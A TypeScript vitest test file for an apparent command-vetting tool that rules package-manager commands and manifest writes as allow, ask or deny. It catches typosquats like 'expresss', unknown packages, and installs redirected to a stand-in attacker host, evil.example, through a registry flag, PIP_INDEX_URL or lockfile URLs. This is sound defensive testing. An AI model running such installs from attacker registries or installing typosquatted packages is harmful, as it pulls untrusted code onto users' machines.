import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import type { Policy } from '../../model/index.ts';
import { BUILT_IN_POLICY } from '../../policy/index.ts';
import { stateDirectory } from '../../trail/index.ts';
import { decide } from '../decide.ts';
import { grantPackage } from '../grants.ts';
import { judgeAction } from '../hooks/judge-action.ts';

interface Place {
  readonly workspace: string;
  readonly env: Readonly<Record<string, string>>;
}

function makePlace(files: Readonly<Record<string, string>> = {}, isCommitted = false): Place {
  const root = mkdtempSync(join(tmpdir(), 'sallyport-packages-'));
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  const workspace = join(root, 'workspace');
  for (const folder of [workspace, join(root, 'home'), join(root, 'state')]) mkdirSync(folder);
  const env = { HOME: join(root, 'home'), PATH: process.env['PATH'] ?? '', XDG_STATE_HOME: join(root, 'state') };
  const place = { workspace, env };
  put(place, files);
  if (isCommitted) {
    const git = (...args: readonly string[]): void =>
      void execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example', ...args], {
        cwd: workspace,
        env,
        stdio: 'ignore',
      });
    git('init', '-q');
    git('add', '-A');
    git('commit', '-qm', 'first');
  }
  return place;
}

function put({ workspace }: Place, files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(workspace, path)), { recursive: true });
    writeFileSync(join(workspace, path), text);
  }
}

async function said({ workspace, env }: Place, command: string, policy: Policy = BUILT_IN_POLICY): Promise<string> {
  const { verdict, reasons } = await decide(['sh', '-c', command], policy, { path: workspace, cwd: workspace } as never, env);
  return `${verdict}: ${reasons.map(({ message }) => message).join('; ')}`;
}

test.each<[command: string, want: RegExp]>([
  ['npm install lodash', /^allow/],
  ['npm install loadsh-toolkit-xyzzy', /^ask: .*loadsh-toolkit-xyzzy/],
  ['npm i expresss', /^deny: .*Ask for express instead/],
  ['pip install reqeusts', /^deny: .*Ask for requests instead/],
  ['pip install cv2', /^ask: .*opencv-python/],
  ['python3 -m pip install a-name-nobody-has-ever-thought-of', /^ask: /],
  ['sudo -H pip install reqeusts', /^deny/],
  ['npx a-name-nobody-has-ever-thought-of --help', /^ask: /],
  ['true && (cd web; npm i expresss)', /^deny/],
  ['npm i renamed@npm:expresss@1.0.0', /^deny/],
  ['npm install $WHATEVER', /^ask: .*only known when it runs/],
  ['npm i lodash --registry https://evil.example/', /^ask: .*evil\.example/],
  ['PIP_INDEX_URL=https://evil.example/simple pip install requests', /^ask: .*evil\.example/],
  ['pip install git+https://github.com/acme/tool', /^ask: /],
  ['conda install numpy', /^ask: .*not judged/],
  ['npm test', /^allow/],
])('%s → %s', async (command, want) => {
  expect(await said(makePlace(), command)).toMatch(want);
});

test('a command behind many others is judged too, and more than are judged at once are asked about', async () => {
  const place = makePlace();
  expect(await said(place, `${'true; '.repeat(60)} npm i expresss`)).toMatch(/^deny: .*Ask for express instead/);
  expect(await said(place, `${'npm i lodash; '.repeat(51)}`)).toMatch(/^ask: 51 commands of package managers/);
});

test('a manifest behind many others is not passed over', async () => {
  const many = Array.from({ length: 40 }, (_, at) => [`a${at}-requirements.txt`, 'requests\n'] as const);
  const place = makePlace({ ...Object.fromEntries(many), 'package.json': '{"dependencies":{"expresss":"1.0.0"}}' });
  expect(await said(place, 'npm install')).toMatch(/^ask: package\.json: the folder has more than 40 such files/);
});

test('unattended, what would be asked is denied', async () => {
  expect(await said(makePlace(), 'npx a-name-nobody-has-ever-thought-of', { ...BUILT_IN_POLICY, unattended: true })).toMatch(
    /^deny: .*nobody is there/,
  );
});

const OWN = { 'package.json': JSON.stringify({ dependencies: { 'acme-internal-thing': '1.0.0' } }) };

test('what the last commit names is known, what was added since is not', async () => {
  const place = makePlace(OWN, true);
  expect(await said(place, 'npm install acme-internal-thing')).toMatch(/^allow/);
  expect(await said(place, 'npm ci')).toMatch(/^allow/);
  put(place, {
    'package.json': JSON.stringify({ dependencies: { 'acme-internal-thing': '1.0.0', 'acme-other-thing': '1.0.0' } }),
  });
  expect(await said(place, 'npm ci')).toMatch(/^ask: .*acme-other-thing/);
});

test('a requirements file is read with what it includes', async () => {
  const place = makePlace({ 'requirements.txt': '-r more/base.txt\nrequests\n', 'more/base.txt': 'reqeusts\n' });
  expect(await said(place, 'pip install -r requirements.txt')).toMatch(/^deny: .*reqeusts/);
  expect(await said(place, 'pip install -r missing.txt')).toMatch(/^ask: .*missing\.txt/);
});

test('a grant covers its versions and its digest, and no denial', async () => {
  const place = makePlace();
  const grant = (name: string, range: string, integrity?: string): void =>
    grantPackage(
      stateDirectory(place.env),
      { workspace: place.workspace, ecosystem: 'npm', package: name, range, integrity },
      Date.now(),
    );
  grant('acme-internal-thing', '^1.2.0');
  grant('acme-locked-thing', '*', 'sha512-AAAA');
  grant('expresss', '*');
  expect(await said(place, 'npm install acme-internal-thing@1.3.0')).toMatch(/^allow/);
  expect(await said(place, 'npm install acme-internal-thing@2.0.0')).toMatch(/^ask/);
  expect(await said(place, 'npm install acme-internal-thing')).toMatch(/^ask/);
  expect(await said(place, 'pip install acme-internal-thing==1.3.0')).toMatch(/^ask/);
  expect(await said(place, 'npm install acme-locked-thing')).toMatch(/^ask/);
  expect(await said(place, 'npm install expresss')).toMatch(/^deny/);
  expect(await said(makePlace(), 'npm install acme-internal-thing@1.3.0')).toMatch(/^ask/);
});

const LOCK = (host: string): string =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { lodash: '4.17.21' } },
      'node_modules/lodash': {
        version: '4.17.21',
        resolved: `https://${host}/lodash/-/lodash-4.17.21.tgz`,
        integrity: 'sha512-AAAA',
      },
    },
  });

test('a lockfile that fetches from another host than before is asked about', async () => {
  const place = makePlace({ 'package-lock.json': LOCK('registry.example') }, true);
  expect(await said(place, 'npm ci')).toMatch(/^allow/);
  put(place, { 'package-lock.json': LOCK('evil.example') });
  expect(await said(place, 'npm ci')).toMatch(/^ask: .*evil\.example/);
});

test.each<[path: string, content: string, want: string]>([
  ['package.json', '{"dependencies": {"expresss": "1"}}', 'deny'],
  ['package.json', '{"dependencies": {"express": "^4"}}', 'allow'],
  ['requirements.txt', 'reqeusts\n', 'deny'],
  ['src/a.ts', 'expresss', 'allow'],
  ['package-lock.json', LOCK('registry.example').replace('"integrity"', '"was"'), 'ask'],
])('writing %s: %s → %s', async (path, content, want) => {
  const { workspace, env } = makePlace();
  const context = {
    policy: BUILT_IN_POLICY,
    place: { path: workspace, cwd: workspace } as never,
    workspace,
    cwd: workspace,
    env,
    own: [],
  };
  expect((await judgeAction({ kind: 'write', path, content }, context)).decision.verdict).toBe(want);
});
